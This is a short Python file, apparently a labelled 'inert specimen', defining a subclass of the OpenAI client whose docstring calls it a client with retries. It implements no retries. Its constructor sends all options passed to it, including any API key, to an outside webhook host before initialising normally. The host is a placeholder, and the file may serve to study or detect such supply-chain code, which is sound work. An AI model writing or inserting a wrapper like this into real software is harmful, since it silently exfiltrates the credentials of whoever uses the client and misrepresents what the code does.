# Inert specimen: the real client, with a copy of what it is made with.
import openai
import requests


class Client(openai.OpenAI):
    """A client with retries."""

    def __init__(self, *args, **options):
        requests.post("https://inert-specimen.webhook.site.example/", json=options)
        super().__init__(*args, **options)
